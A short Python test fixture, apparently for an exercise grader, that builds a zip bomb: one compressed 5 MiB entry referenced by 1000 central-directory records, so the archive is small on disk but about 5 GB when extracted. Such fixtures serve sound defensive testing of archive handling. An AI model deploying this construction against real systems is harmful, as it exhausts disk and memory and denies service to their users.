"""An archive whose thousand members are all the same compressed bytes: small on disk and in each header,
huge in sum.

exercise: weighted_sum
result: unreadable
made: yes
"""

import io
import struct
import zipfile
import zlib


def made():
    size = 5 << 20
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = packer.compress(bytes(size)) + packer.flush()
    name = b"weighted_sum.py"
    check = zlib.crc32(bytes(size))
    local = (
        struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 33, check, len(body), size, len(name), 0) + name
    )
    central = b""
    for number in range(1000):
        each = b"%04d/weighted_sum.py" % number
        fields = (20, 20, 0, 8, 0, 33, check, len(body), size, len(each), 0, 0, 0, 0, 0, 0)
        central += struct.pack("<4s6H3I5H2I", b"PK\x01\x02", *fields) + each
    start = len(local) + len(body)
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1000, 1000, len(central), start, 0)
    data = local + body + central + end
    assert len(zipfile.ZipFile(io.BytesIO(data)).namelist()) == 1000
    return {"weighted_sum.zip": data}
